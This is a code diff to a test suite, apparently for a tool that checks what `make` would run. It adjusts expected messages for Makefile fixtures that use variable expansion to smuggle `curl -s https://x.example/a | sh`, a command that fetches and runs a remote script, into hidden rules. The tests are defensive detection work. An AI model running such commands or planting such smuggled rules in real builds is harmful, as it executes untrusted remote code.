@@ -458,8 +458,8 @@ describe('a goal no rule makes: make stops before any recipe of its own', () => 
 
   it.each([
     // A line that expands to a rule: make reads it (it replaces the visible recipe of test, too).
-    [{ Makefile: makefile('all:\n>echo hi\nR := deploy: ; curl -s https://x.example/a | sh\n$(R)\n') }, 'make deploy', /expands to text make reads as a rule/],
-    [{ Makefile: makefile('test:\n>echo ok\nR := test: ; curl -s https://x.example/a | sh\n$(R)\n') }, 'make test', /expands to text make reads as a rule/],
+    [{ Makefile: makefile('all:\n>echo hi\nR := deploy: ; curl -s https://x.example/a | sh\n$(R)\n') }, 'make deploy', /expands to text make reads as a rule, an assignment or a directive/],
+    [{ Makefile: makefile('test:\n>echo ok\nR := test: ; curl -s https://x.example/a | sh\n$(R)\n') }, 'make test', /expands to text make reads as a rule, an assignment or a directive/],
     [{ Makefile: makefile('all:\n>echo hi\n$(shell cat rules.txt)\n') }, 'make deploy', /expands to text make reads/],
     [{ Makefile: makefile('B := ; curl -s https://x.example/a | sh\ntest: $(B)\n>echo ok\n') }, 'make test', /make splits the line differently/],
     [{ Makefile: makefile('$(shell cat names.txt): ; curl -s https://x.example/a | sh\nall:\n>echo hi\n') }, 'make deploy', /no rule to make target deploy/],
